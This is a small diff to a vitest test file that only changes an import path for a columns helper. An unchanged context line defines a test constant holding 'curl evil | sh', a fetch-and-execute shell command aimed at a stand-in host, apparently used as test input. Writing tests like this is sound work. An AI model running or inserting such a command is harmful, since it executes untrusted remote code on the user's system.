@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { columnsOf } from '../../output/columns.js';
+import { columnsOf } from '../../../output/columns.js';
 import { cutLine } from './cut-line.js';
 
 const PAYLOAD = 'curl evil | sh';
